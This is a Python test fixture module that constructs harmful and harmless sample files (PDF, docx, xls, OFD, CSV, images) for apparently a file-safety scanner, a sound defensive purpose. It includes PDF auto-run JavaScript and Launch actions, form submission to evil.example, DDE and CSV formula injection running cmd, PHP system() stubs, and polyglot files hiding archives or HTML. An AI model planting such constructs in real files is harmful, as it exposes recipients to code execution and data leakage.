"""Files that are more than what their names say, and their harmless like: made here, in each of the ways there are."""

import io
import zipfile
import zlib

from tests.files import samples
from tests.files.test_office import book, related, word


def pdf(
    *objects: bytes, trailer: bytes = b"", packed: bytes = b"", filters: bytes = b"/FlateDecode", pack=zlib.compress
):
    """A PDF of these objects (from number 1, the catalogue, on); `packed` is object 100, in an object stream."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    if packed:
        inner = b"100 0 " + packed
        body = pack(inner)
        told = b"<</Type/ObjStm/N 1/First 6/Filter%s/Length %d>>" % (filters, len(body))
        out += b"99 0 obj\n%s\nstream\r\n%s\nendstream\nendobj\n" % (told, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    return out + b"trailer\n<</Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)


def catalogue(more: bytes = b"") -> bytes:
    return b"<</Type/Catalog/Pages 2 0 R%s>>" % more


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.example.cn/)>>>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[%s]>>" % LINK
SAYS = b"BT (/JavaScript and /Launch are words, \\( <</S/Launch>> too) Tj ET"
TEXT = b"<</Length %d>>\nstream\n%s\nendstream" % (len(SAYS), SAYS)
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def whole(more: bytes = b"", *objects: bytes, **how) -> bytes:
    return pdf(catalogue(more), PAGES, PAGE, *objects, **how)


def hexed(content: bytes) -> bytes:
    return content.hex().encode() + b">"


HARMFUL_PDF = {
    "opens a script": whole(b"/OpenAction" + SCRIPT),
    "script by number": whole(b"/OpenAction 4 0 R", SCRIPT),
    "script by its name tree": whole(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", b"<</S/Rendition>>"),
    "script in another spelling": whole(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
    "script of a page": pdf(catalogue(), PAGES, PAGE[:-2] + b"/AA<</O%s>>>>" % SCRIPT),
    "script of a field": whole(b"/AcroForm<</Fields[4 0 R]>>", b"<</FT/Tx/T(a)/AA<</K%s>>>>" % SCRIPT),
    "script in an object stream": whole(b"/OpenAction 100 0 R", packed=SCRIPT),
    "script in hexadecimal": whole(b"/OpenAction 100 0 R", packed=SCRIPT, filters=b"/ASCIIHexDecode", pack=hexed),
    "script packed twice": whole(
        packed=SCRIPT, filters=b"[/ASCIIHexDecode/FlateDecode]", pack=lambda told: hexed(zlib.compress(told))
    ),
    "script behind an open string": whole(b"/OpenAction 4 0 R").replace(
        b"trailer", b"(\n4 0 obj" + SCRIPT + b"endobj\ntrailer"
    ),
    "script in what looks like a stream": whole(
        b"", b"<</Length 9>>\nstream\n 9 0 obj" + SCRIPT + b" endobj\nendstream"
    ),
    "script added afterwards": whole()
    + b"1 0 obj"
    + catalogue(b"/OpenAction" + SCRIPT)
    + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "number divided by a comment": whole().replace(b"2 0 obj", b"2 %x\n0 %y\nobj")
    + b"7%a\n0%b\nobj"
    + SCRIPT
    + b"endobj",
    "dynamic form": whole(b"/AcroForm<</XFA 4 0 R>>", b"<</Length 0>>\nstream\n\nendstream"),
    "starts a program": whole(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "starts a program by a click": pdf(catalogue(), PAGES, PAGE.replace(b"/S/URI", b"/S/Launch")),
    "plays media": pdf(catalogue(), PAGES, PAGE.replace(b"/Subtype/Link", b"/Subtype/RichMedia")),
    "carries a file": whole(b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>", b"<</Type/Filespec>>"),
    "carries a file beside a page": pdf(catalogue(), PAGES, PAGE.replace(b"/Subtype/Link", b"/Subtype/FileAttachment")),
    "carries a file unnamed": whole(b"", b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream"),
    "opens an address": whole(b"/OpenAction<</S/URI/URI(http://evil.example/)>>"),
    "opens an address by number": whole(b"/OpenAction 4 0 R", b"<</S/URI/URI(http://evil.example/)>>"),
    "opens an address afterwards": whole(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>", b"<</S/URI/URI(http://e/)>>"
    ),
    "opens an address with its page": pdf(
        catalogue(), PAGES, PAGE[:-2] + b"/AA<</O 4 0 R>>>>", b"<</S/URI/URI(http://e/)>>"
    ),
    "opens another file": whole(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>"),
    "sends a form": whole(b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
    "kind elsewhere": whole(b"/OpenAction<</S 4 0 R/URI(http://evil.example/)>>", b"/URI"),
    "locked": whole(packed=b"<</A 1>>", trailer=b"/Encrypt 5 0 R"),
    "packed in a way of its own": whole(packed=b"<</A 1>>", filters=b"/LZWDecode"),
    "packing named elsewhere": whole(b"", b"/FlateDecode", packed=b"<</A 1>>", filters=b" 4 0 R"),
}


def made_by_typst() -> bytes:
    import typst

    source = (
        '#set document(title: "公告")\n= 公告\n#link("https://www.example.cn")[官网]\n#outline()\n== 一\n/JavaScript'
    )
    return typst.compile(source.encode(), format="pdf")


GOOD_PDF = {
    "as typst makes it": made_by_typst(),
    "as LibreOffice makes it": whole(b"/OpenAction[3 0 R/XYZ null null 0]/PageMode/UseOutlines/Lang(zh-CN)", TEXT),
    "as Word makes it": whole(b"/OpenAction 4 0 R", b"<</S/GoTo/D[3 0 R/Fit]>>", packed=b"<</Type/StructElem/S/P>>"),
    "words in a text": whole(b"", TEXT, b"<</Title(How /Launch and /OpenAction <</S/URI>> work)>>% /JavaScript\n"),
    "addresses to click": whole(b"", LINK, packed=LINK),
    "a form to fill in": whole(
        b"/AcroForm<</Fields[4 0 R]/DA(/Helv 0 Tf)>>", b"<</FT/Tx/T(a)/AA<</F<</S/Hide/T(b)>>>>>>"
    ),
    "signed": whole(b"/AcroForm<</SigFlags 3>>", b"<</Type/Sig/Filter/Adobe.PPKLite/Contents<%s>>>" % (b"00" * 5000)),
    "locked, but legible": whole(trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -44>>"),
    "packed without a filter": pdf(catalogue(), PAGES, PAGE, packed=b"<</A 1>>", filters=b"[]", pack=lambda told: told),
    "changed afterwards": whole() + b"3 0 obj" + PAGE + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
}
ARCHIVE = samples.zipped("a.exe")
HTML = b"<html><script>alert(1)</script></html>"
RTF = b"{\\rtf1\\ansi {\\field{\\*\\fldinst DDEAUTO cmd}}}"


def altered(content: bytes, **parts) -> bytes:
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        for name, told in parts.items():
            archive.writestr(name, told)
    return target.getvalue()


def twice(name: str, first: bytes, second: bytes) -> bytes:
    """An archive in which one name stands twice."""
    import warnings

    target = io.BytesIO(word())
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, first)
        archive.writestr(name, second)
    return target.getvalue()


def taken_over(target: str, mode: str = "Internal") -> str:
    return related("aFChunk", target, mode=mode)


def old_book(*links: str | bytes, version: int = 0x0600, stream: str = "Workbook") -> bytes:
    return samples.ole(stream, content=samples.sheets(0, links=links, version=version))


HARMFUL = {
    **{f"{name}.pdf": content for name, content in HARMFUL_PDF.items()},
    "PDF and archive.pdf": GOOD_PDF["as typst makes it"] + ARCHIVE,
    "PDF and archive with more behind it.pdf": GOOD_PDF["as typst makes it"] + ARCHIVE + b"\n%%EOF\n" + b"%" * 70_000,
    "PDF and RAR.pdf": GOOD_PDF["as typst makes it"] + b"Rar!\x1a\x07\x01\x00" + b"x" * 99,
    "PDF and web page.pdf": GOOD_PDF["as typst makes it"] + HTML,
    "PDF with a web page at its head.pdf": b"%PDF-1.4\n" + HTML + whole()[9:],
    "archive and PDF.docx": samples.zipped("%PDF-1.4.txt", "[Content_Types].xml", "word/document.xml"),
    "web page taken over.docx": word(**{"word/_rels/document.xml.rels": taken_over("a.htm"), "word/a.htm": HTML}),
    "RTF taken over.docx": word(**{"word/_rels/document.xml.rels": taken_over("a.rtf"), "word/a.rtf": RTF}),
    "text taken over.docx": word(**{"word/_rels/document.xml.rels": taken_over("a.txt"), "word/a.txt": b"x"}),
    "web page beside.docx": word(**{"word/a.bin": b"\xef\xbb\xbf \n" + HTML}),
    "RTF beside.docx": word(**{"word/media/image1.png": RTF}),
    "archive behind another.docx": ARCHIVE + word(),
    "archive within.docx": word(**{"word/media/image1.png": ARCHIVE}),
    "archives within.docx": word(**{"word/embeddings/a.docx": word(**{"a.zip": ARCHIVE})}),
    "RAR within.xlsx": book(**{"xl/media/a.png": b"Rar!\x1a\x07\x00 and more"}),
    "program within.docx": word(**{"word/media/a.png": b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 99}),
    "harmful PDF within.docx": word(**{"word/embeddings/a.bin": HARMFUL_PDF["starts a program"]}),
    "types twice.docx": twice("[Content_Types].xml", samples.TYPES.format("").encode(), b"<Types/>"),
    "text twice.docx": altered(word(), **{"word/Document.xml": "<w:document xmlns:w='urn:w'/>"}),
    "program within.ofd": altered(samples.zipped("OFD.xml"), **{"Doc_0/Attachs/a": b"MZ\x90\x00\x03\x00\x00\x00"}),
    "archive within.ofd": altered(samples.zipped("OFD.xml"), **{"Doc_0/Attachs/a.zip": ARCHIVE}),
    "web page within.ofd": altered(samples.zipped("OFD.xml"), **{"Doc_0/a": HTML}),
    "package deep inside.doc": samples.ole("WordDocument", "\x01Ole10Native"),
    "macros in an embedded file.doc": samples.ole("WordDocument", "Package", content=ARCHIVE),
    "field.doc": samples.ole("WordDocument", content="\x13 DDEAUTO c:\\cmd.exe".encode("utf-16-le")),
    "DDE.xls": old_book("cmd\x03'/c calc'"),
    "DDE in narrow letters.et": old_book(b"cmd\x03' /C calc'"),
    "DDE of Excel 5.xls": old_book("cmd\x03'/c calc'", version=0x0500, stream="Book"),
    "link to another machine.xls": old_book("\x01\x01@evil.example\x03share\x03a.xls"),
    "link to an address.xls": old_book("\x01\x05\x1ehttp://evil.example/a.xls"),
    "DDE behind a harmless link.xls": old_book("\x01\x02a.xls", "winword\x03c:\\a.doc"),
    "DDE in two workbooks.xls": samples.ole("Workbook", "Book", content=samples.sheets(0, links=(b"cmd\x03x",))),
    "function of the web.xls": samples.ole("Workbook", content=samples.sheets(0) + b"\0_xlfn.WEBSERVICE"),
    "field in narrow letters.doc": samples.ole("WordDocument", content=b"\x13DDE cmd"),
    "formula.csv": "名称,数值\n甲,\"=cmd|'/c calc'!A0\"\n".encode(),
    "formula first.csv": b"=cmd|'/c calc'!A0,1\n",
    "formula of the web.csv": b'a,=WEBSERVICE("http://evil.example/")\n',
}
MISMATCHED = {
    "RTF.txt": RTF,
    "RTF.doc": RTF,
    "RTF behind blanks.txt": b"\xef\xbb\xbf \n" + RTF,
    "drawing.txt": b"<!-- x -->" * 900 + samples.SVG,
    "drawing.csv": "﻿".encode() + samples.SVG,
    "drawing in wide letters.txt": samples.SVG.decode().encode("utf-16"),
    "drawing.pdf": samples.SVG,
    "web page.txt": b"hello\n" + HTML,
    "web page behind a comment.txt": b"<!-- a --><p>x</p>",
    "web page in wide letters.txt": HTML.decode().encode("utf-16"),
    "picture that acts.txt": b'look: <img src=x onerror="alert(1)">',
    "frame.csv": b"a,b\n1,<iframe src=//evil.example></iframe>\n",
    "program of a server.txt": b"<?php system('x');",
    "web archive.txt": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>",
    "archive.txt": ARCHIVE,
    "archive.doc": ARCHIVE,
    "program.txt": b"MZ\x90\0\3\0",
    "archive.pdf": ARCHIVE,
}
GOOD = {
    **{f"{name}.pdf": content for name, content in GOOD_PDF.items()},
    "pictures.docx": word(
        **{
            "word/_rels/document.xml.rels": related("image", "media/image1.png", mode="Internal"),
            "word/media/image1.png": samples.picture("PNG"),
            "word/media/image2.jpeg": samples.picture("JPEG"),
            "word/media/image3.svg": samples.SVG,
        }
    ),
    "workbook within.docx": word(**{"word/embeddings/a.xlsx": book()}),
    "chart and fonts.docx": word(
        **{"word/fonts/font1.odttf": b"\x00\x01\x00\x00" * 99, "docProps/thumbnail.emf": b"\1\0"}
    ),
    "table.xlsx": book("=SUM(1,2)"),
    "printed.xlsx": book(
        **{"xl/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le") + b"\0" * 200}
    ),
    "letter.doc": samples.ole("WordDocument", "1Table", "\x05SummaryInformation", storages=("ObjectPool",)),
    "text of fields.doc": samples.ole("WordDocument", content="\x13 PAGE \x14 1 \x15 DDE 协议".encode("utf-16-le")),
    "table.xls": samples.ole("Workbook", content=samples.sheets(0, 0)),
    "linked.xls": old_book("\x01\x02汇总.xls", "\x01\x01Cfolder\x03a.xls", b"\x01\x04\x03a.xls"),
    "linked of Excel 5.xls": old_book("\x01\x02a.xls", version=0x0500, stream="Book"),
    "official.ofd": altered(
        samples.zipped("OFD.xml", "Doc_0/Document.xml"),
        **{
            "Doc_0/Res/a.png": samples.picture("PNG"),
            "Doc_0/Res/f.ttf": b"\0\1\0\0",
            "Doc_0/Signs/Seal.esl": b"0\x82\x01",
        },
    ),
    "note.txt": "体重<50公斤且>40公斤的，a < b，见 http://www.example.cn/ 和 zhang@example.cn".encode(),
    "note in gb18030.txt": "收费：每台200元；电话 023-12345678".encode("gb18030"),
    "list.csv": '﻿编号,差额,说明\n1,-5,"=SUM(A1:A2)"\n2,+3,甲|乙!\n3,@张,-—\n'.encode(),
}


def hidden_in(kind: str, what: bytes) -> bytes:
    return samples.picture(kind) + what


def commented(what: bytes) -> bytes:
    """A GIF with this as its comment."""
    gif = samples.picture("GIF", size=(2, 2))
    at = 13 + 3 * 2 ** ((gif[10] & 7) + 1)
    return gif[:at] + b"\x21\xfe" + bytes([len(what)]) + what + b"\0" + gif[at:]


def cells(formula: str = "", prefix: str = "", before: str = "") -> bytes:
    """A sheet of forty thousand cells, with "|" in each, and one formula in their midst."""
    cell = f'<{prefix}c r="A1" t="inlineStr"><{prefix}is><{prefix}t>甲|乙</{prefix}t></{prefix}is></{prefix}c>'
    space = ' xmlns:x="urn:x"' if prefix else ""
    told = f"<{prefix}sheetData{space}>{cell * 20_000}{formula}{cell * 20_000}</{prefix}sheetData>"
    return before.encode() + told.encode()


HARMFUL_PICTURES = {
    "archive.jpg": hidden_in("JPEG", ARCHIVE),
    "archive.gif": hidden_in("GIF", ARCHIVE),
    "archive.png": hidden_in("PNG", ARCHIVE),
    "archive.webp": hidden_in("WEBP", ARCHIVE),
    "archive with more behind it.jpg": hidden_in("JPEG", ARCHIVE + b"\xff\xd9" * 40_000),
    "seven.jpg": hidden_in("JPEG", b"7z\xbc\xaf\x27\x1c\0\4"),
    "page.gif": hidden_in("GIF", HTML),
    "page.jpg": hidden_in("JPEG", HTML),
    "comment.gif": commented(HTML),
    "server.png": hidden_in("PNG", b"<?php system('x'); ?>"),
}
GOOD_PICTURES = {
    "photo.jpg": samples.picture("JPEG"),
    "photo with a film behind it.jpg": hidden_in("JPEG", b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 50),
    "drawing.png": samples.picture("PNG"),
    "drawing.gif": commented(b"Created with a <tool> & more"),
    "photo.webp": samples.picture("WEBP"),
}
